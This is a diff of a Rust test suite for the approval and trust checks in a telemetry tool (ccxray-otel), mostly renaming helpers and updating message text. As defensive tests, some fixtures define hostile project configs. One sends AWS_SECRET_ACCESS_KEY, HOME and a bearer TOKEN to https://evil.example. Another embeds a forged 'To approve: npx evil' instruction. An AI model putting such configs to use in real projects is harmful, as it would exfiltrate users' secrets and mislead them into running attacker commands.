@@ -27,21 +27,20 @@ fn now() -> SystemTime {
     SystemTime::UNIX_EPOCH + Duration::from_hours(500_000)
 }
 
-fn allow(disk: &Disk, cwd: &str) {
+fn approve_in(disk: &Disk, cwd: &str) {
     approve(&disk.0.join(cwd), &disk.environment(&[]), None, now()).unwrap();
 }
 
 #[test]
 fn a_cloned_project_waits_for_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    let told = disk.without_root(&reason(disk.resolve("project/src/deep", &[])));
+    let message = disk.without_root(&reason(disk.resolve("project/src/deep", &[])));
     assert_eq!(
-        told,
+        message,
         "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send \
-         anonymous numbers (tier 1) to https://otlp.example. To approve: npx @ccxray/otel-native trust \
-         ~/project"
+         anonymous numbers (tier 1) to https://otlp.example. To approve: ccxray-otel trust ~/project"
     );
-    allow(&disk, "project/src/deep");
+    approve_in(&disk, "project/src/deep");
     assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
 }
 
@@ -79,18 +78,18 @@ fn a_hostile_repository_gets_nothing() {
         [("AWS_SECRET_ACCESS_KEY", "s3cret-key"), ("HOME", "s3cret-home"), ("USER", "s3cret")];
     let resolution = disk.resolve("project", &env).unwrap();
     assert!(!format!("{resolution:?}").contains("s3cret"), "{resolution:?}");
-    let told = disk.without_root(&reason(Ok(resolution)));
+    let message = disk.without_root(&reason(Ok(resolution)));
     assert_eq!(
-        told,
+        message,
         "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send numbers \
          with the name that you choose (tier 2) to https://evil.example/${AWS_SECRET_ACCESS_KEY}; with \
          the headers: \"x-tenant=${HOME}\\u{1b}[2J\"; it will read your variable \
          AWS_SECRET_ACCESS_KEY as a part of this address; it will read your variable HOME and send it \
          there in the header \"x-tenant\"; it will read your variable USER and send it there as \
          \"team\"; it will send the private names of tools, servers, skills, agents and models. To \
-         approve: npx @ccxray/otel-native trust ~/project"
+         approve: ccxray-otel trust ~/project"
     );
-    assert!(!disk.0.join("home/.ccxray").exists(), "to refuse leaves no trace");
+    assert!(!disk.0.join("home/.ccxray").exists(), "nothing is written");
 }
 
 #[test]
@@ -131,9 +130,9 @@ fn a_personal_file_in_the_project_reads_no_variable() {
     let disk =
         Disk::new().write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"tier\":2"));
     fs::remove_dir(disk.0.join("project/.git")).unwrap();
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     let disk = disk.write("project/.ccxray.user.json", identity);
-    assert!(!reason(disk.resolve("project", &env)).is_empty(), "it was added after the word");
+    assert!(!reason(disk.resolve("project", &env)).is_empty(), "it was added after the approval");
     for endpoint in ["https://otlp.example", "http://127.0.0.1:9"] {
         let text = format!(r#"{{"otel":{{"tier":2,"endpoint":"{endpoint}"}}}}"#);
         let disk = Disk::new().write("project/.ccxray.json", &text);
@@ -142,7 +141,10 @@ fn a_personal_file_in_the_project_reads_no_variable() {
     assert!(asked(&Disk::new().write("project/.ccxray.user.json", identity)));
     let home = r#"{"otel":{"tier":2,"endpoint":"http://127.0.0.1:9"}}"#;
     let disk = Disk::new().write("home/.ccxray.user.json", home);
-    assert!(asked(&disk.write("project/.ccxray.user.json", identity)), "beside one's own word");
+    assert!(
+        asked(&disk.write("project/.ccxray.user.json", identity)),
+        "with the user's own settings"
+    );
 }
 
 #[test]
@@ -151,7 +153,7 @@ fn an_approval_covers_the_query_and_the_authority() {
         format!(r#"{{"otel":{{"tier":1,"endpoint":"https://otlp.example/{query}"{tls}}}}}"#)
     };
     let disk = Disk::new().write("project/.ccxray.json", &with("?dataset=mine", ""));
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     on(disk.resolve("project", &[]));
     for text in [with("?dataset=strangers", ""), with("?dataset=mine", r#","tls":{"ca_file":"c"}"#)]
     {
@@ -168,7 +170,7 @@ fn an_approval_covers_the_tenant() {
         )
     };
     let disk = Disk::new().write("project/.ccxray.json", &with("acme"));
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     on(disk.resolve("project", &[]));
     let disk = disk.write("project/.ccxray.json", &with("mallory"));
     assert!(reason(disk.resolve("project", &[])).contains("new header x-scope-orgid=mallory"));
@@ -210,7 +212,7 @@ fn a_project_can_be_approved_while_off() {
 #[test]
 fn a_changed_config_needs_a_new_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     let disk = disk.write(
         "project/.ccxray.json",
         r#"{"otel":{"tier":1,"endpoint":"https://evil.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#,
@@ -219,8 +221,8 @@ fn a_changed_config_needs_a_new_approval() {
         disk.without_root(&reason(disk.resolve("project", &[("TOKEN", "s3cret")]))),
         "untrusted: ~/project/.ccxray.json has changed since you approved it: the endpoint was \
          https://otlp.example and is now https://evil.example, new header \
-         \"authorization=Bearer ${TOKEN}\", new variable TOKEN@headers.authorization. To approve: npx \
-         @ccxray/otel-native trust ~/project"
+         \"authorization=Bearer ${TOKEN}\", new variable TOKEN@headers.authorization. To approve: \
+         ccxray-otel trust ~/project"
     );
     let consent = approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap();
     assert_eq!(consent.changes.len(), 3);
@@ -238,10 +240,11 @@ fn a_hash_approves_only_its_terms() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let shown = disk.resolve("project", &[]).unwrap().pending.unwrap().terms.hash();
     let disk = disk.write("project/.ccxray.json", &FOREIGN.replace("otlp", "evil"));
-    let allow = || approve(&disk.0.join("project"), &disk.environment(&[]), Some(&shown), now());
-    assert!(allow().unwrap_err().to_string().contains("has changed since you saw it"));
+    let approve_shown =
+        || approve(&disk.0.join("project"), &disk.environment(&[]), Some(&shown), now());
+    assert!(approve_shown().unwrap_err().to_string().contains("has changed since you saw it"));
     fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
-    assert!(allow().is_ok());
+    assert!(approve_shown().is_ok());
 }
 
 #[test]
@@ -249,12 +252,15 @@ fn text_of_a_project_cannot_forge_the_cure() {
     let text = r#"{"otel":{"tier":1,"endpoint":"https://good.example. To approve: npx evil ${X}",
         "known_names":["a. To approve: npx evil"]}}"#;
     let disk = Disk::new().write("project/.ccxray.json", text);
-    let told = disk.without_root(&reason(disk.resolve("project", &[])));
+    let message = disk.without_root(&reason(disk.resolve("project", &[])));
     assert!(
-        told.contains("to \"https://good.example. To approve: npx evil ${X}\"; it will"),
-        "{told}"
+        message.contains("to \"https://good.example. To approve: npx evil ${X}\"; it will"),
+        "{message}"
     );
-    assert!(told.contains("names: \"a. To approve: npx evil\". To approve: npx @ccxray"), "{told}");
+    assert!(
+        message.contains("names: \"a. To approve: npx evil\". To approve: ccxray-otel trust"),
+        "{message}"
+    );
     let header = r#"{"otel":{"tier":1,"endpoint":"https://a.example","headers":{"x. To":"${X}"}}}"#;
     let disk = Disk::new().write("project/.ccxray.json", header);
     assert!(disk.resolve("project", &[]).unwrap_err().contains("This is not an HTTP header."));
@@ -264,7 +270,7 @@ fn text_of_a_project_cannot_forge_the_cure() {
 fn a_nested_project_has_its_own_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let disk = disk.write("project/src/.ccxray.json", &FOREIGN.replace("otlp", "src"));
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     assert!(!revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap());
     on(disk.resolve("project", &[]));
 }
@@ -272,11 +278,11 @@ fn a_nested_project_has_its_own_approval() {
 #[test]
 fn an_approval_can_be_revoked_without_the_file() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    let forget = || revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap();
-    assert!(!forget());
-    allow(&disk, "project");
+    let revoke_here = || revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap();
+    assert!(!revoke_here());
+    approve_in(&disk, "project");
     fs::remove_file(disk.0.join("project/.ccxray.json")).unwrap();
-    assert!(forget() && !forget());
+    assert!(revoke_here() && !revoke_here());
     fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
     assert!(reason(disk.resolve("project", &[])).starts_with("untrusted: "));
 }
@@ -304,22 +310,22 @@ fn the_record_is_private_and_has_no_values() {
 #[test]
 fn a_record_that_cannot_be_trusted_approves_nothing() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    allow(&disk, "project");
+    approve_in(&disk, "project");
     let file = disk.0.join("home/.ccxray/otel-trust.json");
     let mode = |mode| fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
     mode(0o666);
-    let told = reason(disk.resolve("project", &[]));
-    assert!(told.contains("Other users can write to this file."), "{told}");
+    let message = reason(disk.resolve("project", &[]));
+    assert!(message.contains("Other users can write to this file."), "{message}");
     mode(0o600);
     on(disk.resolve("project", &[]));
     fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o777)).unwrap();
     assert!(reason(disk.resolve("project", &[])).contains("Other users can write to this file."));
     fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o700)).unwrap();
     fs::write(&file, "{").unwrap();
-    let told = reason(disk.resolve("project", &[]));
+    let message = reason(disk.resolve("project", &[]));
     assert!(
-        told.contains("This file is damaged. Delete it, then run trust again in each project."),
-        "{told}"
+        message.contains("This file is damaged. Delete it, then run trust again in each project."),
+        "{message}"
     );
     let refused =
         approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap_err();
@@ -344,9 +350,9 @@ fn concurrent_writers_lose_nothing() {
         for project in &projects {
             scope.spawn(move || {
                 for _ in 0..5 {
-                    allow(disk, project);
+                    approve_in(disk, project);
                     revoke(&disk.0.join(project), &disk.environment(&[])).unwrap();
-                    allow(disk, project);
+                    approve_in(disk, project);
                 }
             });
         }
@@ -356,7 +362,7 @@ fn concurrent_writers_lose_nothing() {
     }
 }
 
-/// A project at tier 2 in a real repository, with the engineer's file beside it.
+/// A project at tier 2 in a real repository, with a personal file in it.
 fn repository() -> Disk {
     let disk = Disk::new();
     fs::remove_dir(disk.0.join("project/.git")).unwrap();
@@ -373,11 +379,11 @@ fn an_identity_in_git_is_not_used() {
     assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "not in git yet");
     disk.git("project", &["add", ".ccxray.user.json"]);
     let resolution = disk.resolve("project", &env).unwrap();
-    let told = resolution.warnings.join(" ");
-    assert!(told.contains("git rm --cached .ccxray.user.json"), "{told}");
+    let message = resolution.warnings.join(" ");
+    assert!(message.contains("git rm --cached .ccxray.user.json"), "{message}");
     assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
     let own = [env[0], ("CCXRAY_OTEL_TIER", "2"), ("CCXRAY_OTEL_IDENTITY", "me")];
-    assert_eq!(on(disk.resolve("project", &own)).tier.number(), 2, "their word for this launch");
+    assert_eq!(on(disk.resolve("project", &own)).tier.number(), 2, "chosen for this launch");
     disk.git("project", &["rm", "-q", "--cached", ".ccxray.user.json"]);
     assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "the cure helps");
 }
@@ -390,8 +396,8 @@ fn a_tier_in_git_is_not_a_choice() {
     let mut env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
     env.push(("CCXRAY_OTEL_IDENTITY", "me"));
     let resolution = disk.resolve("project", &env).unwrap();
-    let told = resolution.warnings.join(" ");
-    assert!(told.contains("so tier 2 in it is not used"), "{told}");
+    let message = resolution.warnings.join(" ");
+    assert!(message.contains("so tier 2 in it is not used"), "{message}");
     assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous, "whose identity is known all the same");
     let disk = disk.write("home/.ccxray.user.json", r#"{"otel":{"tier":2}}"#);
     assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2);
@@ -414,8 +420,11 @@ fn an_identity_in_a_home_in_git_is_not_used() {
 fn without_git_a_warning_names_a_safe_place() {
     let disk = repository();
     let resolution = disk.resolve("project", &[("PATH", "/nonexistent")]).unwrap();
-    let told = resolution.warnings.join(" ");
-    assert!(told.contains("Git cannot say") && told.contains("CCXRAY_OTEL_IDENTITY"), "{told}");
+    let message = resolution.warnings.join(" ");
+    assert!(
+        message.contains("Git cannot say") && message.contains("CCXRAY_OTEL_IDENTITY"),
+        "{message}"
+    );
     assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
     let home = r#"{"otel":{"tier":2,"identity":"me"}}"#;
     let disk = disk.write("home/.ccxray.user.json", home);
